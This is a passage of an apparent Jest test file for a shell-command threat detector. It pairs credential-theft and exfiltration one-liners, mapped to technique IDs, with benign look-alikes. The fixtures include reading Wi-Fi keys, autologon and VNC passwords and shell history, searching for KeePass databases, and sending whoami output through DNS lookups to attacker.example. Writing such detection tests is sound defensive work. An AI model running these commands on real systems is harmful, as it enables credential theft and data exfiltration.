  ])('%s', (_n, text, id, severity) => {
    expect(technique(text, id)?.severity).toBe(severity);
  });
  it.each([
    ['a daemon that dup2s /dev/null before exec', 'int fd = open("/dev/null", O_RDWR);\ndup2(fd, 0);\ndup2(fd, 1);\nexecl("/usr/sbin/mydaemon", "mydaemon", NULL);'],
    ['a Lua HTTP client', 'local http=require("socket.http")\nlocal body=http.request("https://example.org/")\nprint(body)'],
    ['a Tcl client that reads a greeting', 'set s [socket mail.example.org 25]\ngets $s greeting\nputs $s "QUIT"\nclose $s'],
    ['members listed, not called', "Get-Process | Get-Member | Where-Object { $_.Name -like '*Time*' } | Select-Object Name"],
    ['the invoker used by name', '$ExecutionContext.InvokeCommand.ExpandString($template)'],
    ['UAC prompts turned back on', 'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 1 /f'],
    ['a download from a file drop', 'curl -o notes.txt https://transfer.sh/abc/notes.txt'],
    ['the Guest account switched off', 'net user guest /active:no'],
    ["a control panel page of Windows' own opened through rundll32", 'rundll32.exe shell32.dll,Control_RunDLL ncpa.cpl'],
    ["a MIME table of key extensions next to a directory walk", "MIME = {'.pem': 'application/x-pem-file', '.key': 'application/pgp-keys', '.p12': 'application/x-pkcs12', '.pfx': 'application/x-pkcs12'}\nfor root, dirs, files in os.walk(path): pass"],
    ['svchost looked up, or its path in System32', 'Get-Process svchost | Select-Object Id\n& C:\\Windows\\System32\\svchost.exe -k netsvcs'],
    ["a package's CVE patch applied and its regression test named", 'patch -p1 < debian/patches/CVE-2021-4034.patch\n# regression: tests/cve-2014-6271.txt'],
  ])('%s stays at low or below', (_n, text) => {
    expect(['info', 'low']).toContain(worst(text));
  });
});

describe('fifteenth round: procedures the one-liner gate let past the model as reads, each with a benign look-alike', () => {
  it.each([
    ['Wi-Fi keys shown in clear', 'netsh wlan show profile name="CorpWiFi" key=clear', 'cred.wifi_keys', 'T1555'],
    ['every Wi-Fi profile with its key', 'netsh wlan show profiles * key = clear', 'cred.wifi_keys', 'T1555'],
    ["the autologon password read with reg", 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v DefaultPassword', 'cred.autologon_registry', 'T1552.002'],
    ['the autologon password read with PowerShell', 'Get-ItemProperty -Path "HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" | Select-Object DefaultUserName,DefaultPassword', 'cred.autologon_registry', 'T1552.002'],
    ['whoami sent in a DNS name', 'dig $(whoami).$(hostname).exfil.attacker.example', 'exfil.dns_lookup_output', 'T1048.003'],
    ['a file sent in a ping name', 'ping -c 1 $(cat /etc/hostname | base64).attacker.example', 'exfil.dns_lookup_output', 'T1048.003'],
    ['backticks in an nslookup name', 'nslookup `whoami`.attacker.example 203.0.113.9', 'exfil.dns_lookup_output', 'T1048.003'],
    ["PowerShell's history read from its full path", 'Get-Content $env:APPDATA\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt', 'cred.shell_history', 'T1552.003'],
    ["a VNC server's password read", 'reg query "HKCU\\Software\\ORL\\WinVNC3\\Password"', 'cred.vnc_password', 'T1552.002'],
    ["TightVNC's password read", 'reg query HKLM\\SOFTWARE\\TightVNC\\Server /v Password', 'cred.vnc_password', 'T1552.002'],
    ['user folders searched for KeePass databases', 'Get-ChildItem -Path C:\\Users -Include *.kdbx -Recurse -ErrorAction SilentlyContinue', 'cred.password_manager_search', 'T1555.005'],
    ['the file system searched for KeePass databases', 'find / -name "*.kdbx" 2>/dev/null', 'cred.password_manager_search', 'T1555.005'],
    ['a drive searched with dir /s', 'dir /s /b C:\\*.kdbx', 'cred.password_manager_search', 'T1555.005'],
  ])('%s', (_n, text, id, tech) => expectTechnique(text, id, tech, 'medium'));

  it.each([
    ['Wi-Fi profiles listed without keys', 'netsh wlan show profiles'],
    ['one Wi-Fi profile shown', 'netsh wlan show profile name="CorpWiFi"'],
    ['the autologon user read', 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v DefaultUserName'],
    ['the host name looked up', 'dig +short $(hostname -f)'],
    ['a ping of the gateway', 'ping -c 3 $(ip route | awk \'/default/ {print $3}\')'],
    ['a lookup of a fixed name', 'nslookup api.example.com 10.0.0.53'],
    ["TightVNC's port read", 'reg query HKLM\\SOFTWARE\\TightVNC\\Server /v RfbPort'],
    ['a KeePass database copied to a backup share', 'Copy-Item D:\\vault\\team.kdbx \\\\backup\\keepass\\'],
    ['a KeePass database opened', 'keepassxc-cli open ~/db.kdbx'],
  ])('%s stays at low or below', (_n, text) => {
    expect(['info', 'low']).toContain(worst(text));
  });
});
